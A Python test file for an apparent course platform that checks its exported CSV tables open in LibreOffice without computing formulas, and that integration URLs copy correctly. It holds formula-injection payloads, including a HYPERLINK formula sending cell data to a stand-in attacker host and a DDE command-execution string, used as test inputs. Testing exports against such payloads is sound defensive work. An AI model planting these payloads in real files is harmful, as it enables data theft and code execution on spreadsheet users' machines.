"""What a teacher takes along: the URL in the clipboard, and a table that a spreadsheet opens and does not compute."""

from __future__ import annotations

import csv
import os
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
import yaml
from django.test import Client
from django.utils import timezone
from playwright.sync_api import Browser, expect

from courseway.courses.models import Assignment
from courseway.learning.scoring import set_grade
from courseway.orgs.models import Person
from tests.cast import Cast
from tests.end_to_end.lms_screen import Screen
from tests.end_to_end.servers import Stand
from tests.end_to_end.spreadsheet import find_libreoffice, open_csv, open_csvs
from tests.visits import make_lms11

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        os.environ.get("COURSEWAY_TEST_DATABASE") == "postgres", reason="does not use the database of the tests"
    ),
]
# Beginnings that spreadsheets take for a formula, some of them behind a blank or a quote.
TITLES = (
    "=1+1",
    '=HYPERLINK("https://evil.example/"&A1,"Click")',
    "+2+3",
    "-5+4",
    "@SUM(1,2)",
    "\t=7*6",
    " =8*8",
    '"=9*9',
    "Loops, and \"lists\"; with 'quotes'",
)


def make_nasty_course(folder: Path) -> Path:
    """A course whose modules and assignments are called like formulas."""
    assignments = [{"title": title, "key": f"a{number}", "points": 4} for number, title in enumerate(TITLES)]
    modules = [{"title": "=cmd|' /C calc'!A0", "assignments": assignments[:5]}]
    modules += [{"title": "@Later", "assignments": assignments[5:]}]
    file = folder / "course.yaml"
    file.write_text(yaml.safe_dump({"title": "=2+2", "modules": modules}, allow_unicode=True))
    return file


@pytest.mark.skipif(find_libreoffice() is None, reason="no LibreOffice: apt-get install libreoffice-calc-nogui")
@pytest.mark.parametrize("setting", ["constant_urls=false", "constant_urls=true"])
def test_a_spreadsheet_shows_the_urls_and_computes_nothing(stand: Stand, tmp_path: Path, setting: str) -> None:
    """LibreOffice opens the exported table with every URL as it is, and finds no formula in it."""
    courseway = stand.courseway
    made = courseway.run("course", "import", str(make_nasty_course(tmp_path)), "--org", stand.org)
    course = courseway.run("course", "set", made["id"], "lti_enabled=true", setting)
    file = tmp_path / "urls.csv"
    courseway.run("course", "export", course["id"], "--format", "urls-csv", "-o", str(file))
    sheet = open_csv(file, tmp_path / "sheet")
    is_constant = setting.endswith("true")
    urls = [one["constant_url" if is_constant else "url"] for one in course["assignments"]]
    column = sheet.rows[0].index("URL")
    assert [row[column] for row in sheet.rows[1:]] == urls
    assert [row[sheet.rows[0].index("id")] for row in sheet.rows[1:]] == [one["id"] for one in course["assignments"]]
    assert (sheet.formulas, sheet.links) == ([], [])
    shown = [row[sheet.rows[0].index("assignment")].strip().lstrip("'") for row in sheet.rows[1:]]
    assert shown == [one["title"].strip() for one in course["assignments"]]
    if is_constant:
        parameters = sheet.rows[1][sheet.rows[0].index("custom parameters")]
        assert parameters == f"course_target_id={course['id']}"


@pytest.mark.skipif(find_libreoffice() is None, reason="no LibreOffice: apt-get install libreoffice-calc-nogui")
def test_the_spreadsheet_would_compute(tmp_path: Path) -> None:
    """The test above can fail: the same titles in a careless CSV are formulas."""
    file = tmp_path / "careless.csv"
    with file.open("w", newline="") as careless:
        csv.writer(careless).writerows([[title] for title in TITLES])
    assert len(open_csv(file, tmp_path / "sheet").formulas) >= 2


@pytest.mark.django_db
@pytest.mark.skipif(find_libreoffice() is None, reason="no LibreOffice: apt-get install libreoffice-calc-nogui")
def test_names_that_an_lms_sends_are_never_computed(cast: Cast, client: Client, tmp_path: Path) -> None:
    """Gradebook, launch log and delivery log open without a formula, whatever people, ids and courses are called."""
    lms = make_lms11(cast.acme)
    for number, title in enumerate(TITLES):
        Assignment.objects.filter(pk=cast.operators.pk).update(title=title)
        names = {"lis_person_name_full": title, "lis_person_contact_email_primary": title, "context_title": title}
        ids = {"user_id": f"{title} {number}", "context_id": f"{title} {number}", "resource_link_id": f"link-{number}"}
        assert lms.launch(Client(), f"/lti/a/{cast.operators.public_id}", **names, **ids).status_code == 303
    for person in Person.objects.filter(lms_identities__platform=lms.platform):
        set_grade(
            assignment=cast.operators,
            person=person,
            percent=Decimal(50),
            complete=True,
            release=True,
            now=timezone.now(),
        )
    client.force_login(cast.olive)
    addresses = (f"/courses/{cast.course.public_id}/gradebook.csv", "/o/acme/launches.csv", "/o/acme/grades.csv")
    files = [tmp_path / address.rpartition("/")[2] for address in addresses]
    for address, file in zip(addresses, files, strict=True):
        answer: Any = client.get(address)
        file.write_bytes(answer.getvalue())
    for address, sheet in zip(addresses, open_csvs(files, tmp_path / "sheets"), strict=True):
        assert len(sheet.rows) > len(TITLES)
        assert (sheet.formulas, sheet.links) == ([], []), address
        shown = {cell for row in sheet.rows for cell in row}
        assert "'=1+1" in shown or "=1+1" in shown, address


@pytest.mark.browser
def test_a_click_on_the_integration_url_copies_it(stand: Stand, chromium: Browser) -> None:
    """The ⋮ menu of each assignment: after a click on its field the clipboard holds exactly that assignment's URL."""
    course = stand.import_example()
    with Screen(chromium) as screen:
        page = screen.sign_in(stand.courseway, f"/courses/{course['id']}/")
        for kind in ("url", "constant_url"):
            for assignment in course["assignments"]:
                row = page.locator(f"tr[id='{assignment['id']}']")
                row.locator("summary").click()
                row.get_by_label("LTI integration URL", exact=True).click()
                expect(page.locator("#announcer")).to_have_text("LTI integration URL: Copied")
                assert screen.read_clipboard() == assignment[kind]
                if kind == "constant_url":
                    row.get_by_label("Custom parameters that belong to it", exact=True).click()
                    expect(page.locator("#announcer")).to_have_text("Custom parameters that belong to it: Copied")
                    assert screen.read_clipboard() == f"course_target_id={course['id']}"
                page.keyboard.press("Escape")
            stand.courseway.run("course", "set", course["id"], "constant_urls=true")
            page.reload()
        assert not screen.problems


@pytest.mark.browser
def test_the_table_is_downloaded_from_the_page(stand: Stand, chromium: Browser, tmp_path: Path) -> None:
    """Export on the tab LTI/LMS gives the same table as the command."""
    course = stand.import_example("constant_urls=true")
    written = tmp_path / "command.csv"
    stand.courseway.run("course", "export", course["id"], "--format", "urls-csv", "-o", str(written))
    with Screen(chromium) as screen:
        page = screen.sign_in(stand.courseway, f"/courses/{course['id']}/lti/")
        with page.expect_download() as download:
            page.get_by_role("link", name="Export Assignment URLs").click()
        saved = Path(download.value.path()).read_bytes()
    assert saved.decode("utf-8-sig") == written.read_bytes().decode("utf-8-sig")
